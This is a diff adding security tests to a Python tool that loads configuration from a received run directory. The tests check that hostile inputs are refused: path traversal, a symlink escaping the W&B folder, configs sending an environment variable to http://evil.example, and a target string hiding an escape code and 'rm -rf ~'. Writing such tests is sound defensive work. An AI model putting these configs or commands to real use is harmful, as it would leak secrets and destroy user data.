@@ -187,6 +187,15 @@ HOSTILE: dict[str, Callable[[Path, str], dict[str, Any]]] = {
     "root_of_the_trainer": lambda marker, _: {"trainer__default_root_dir": str(marker)},
     "verdicts_elsewhere": lambda marker, _: {"judge__cache": str(marker)},
     "cache_in_a_folder_of_something_else": lambda marker, _: {"paths__cache": str(marker.parent)},
+    "positional_path": lambda *_: {"callbacks__health": {"_target_": "spo.callbacks.Health", "_args_": ["../marker"]}},
+    "positional_folder": lambda *_: {
+        "trainer__profiler": {"_target_": "lightning.pytorch.profilers.SimpleProfiler", "_args_": ["marker"]},
+    },
+    "environment_to_another_server": lambda *_: {
+        "tags": ["${oc.env:EVIL}"],
+        "judge__base_url": "http://evil.example/v1",
+        "judge__request": {"headers": {"X": "${tags.0}"}},
+    },
     "key_to_another_server": lambda *_: {"judge__key_variable": "PATH", "judge__base_url": "http://evil.example/v1"},
     "yaml_object": lambda *_: {},  # written below
 }
@@ -259,6 +268,33 @@ def test_links_of_wandb_to_its_logs_are_no_reason_for_a_refusal(tmp_path: Path) 
     logs.mkdir(parents=True)
     (logs / "debug-core.log").symlink_to(tmp_path / "core-debug.log")
     assert resumed_config(run, [])
+
+
+def test_links_of_wandb_where_its_client_writes_are_refused(tmp_path: Path) -> None:
+    run = received(tmp_path)
+    (run / "wandb").mkdir()
+    (run / "wandb/superseded").symlink_to(tmp_path)
+    with pytest.raises(UserError, match="a link out of it"):
+        resumed_config(run, [])
+
+
+def test_settings_of_wandb_in_a_received_directory_are_refused(tmp_path: Path) -> None:
+    run = received(tmp_path)
+    (run / "wandb").mkdir()
+    (run / "wandb/settings").write_text("[default]\nbase_url = http://evil.example\n")
+    with pytest.raises(UserError, match=r"has settings of W&B \(wandb/settings\).*--allow .*wandb/settings"):
+        resumed_config(run, [])
+    assert resumed_config(run, [], allow=[str(run / "wandb/settings")])
+
+
+def test_a_message_about_a_received_directory_is_safe_to_read_and_to_copy(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    run = received(tmp_path)
+    spoil(run, callbacks__x={"_target_": "\x1b[2Ja.b; rm -rf ~"})
+    assert cli.main(["evaluate", str(run)]) == 1
+    message = capsys.readouterr().err
+    assert "\x1b" not in message and "add --allow '␛[2Ja.b; rm -rf ~' to the command" in message
 
 
 # --- what the caller allows ----------------------------------------------------------------------------------------
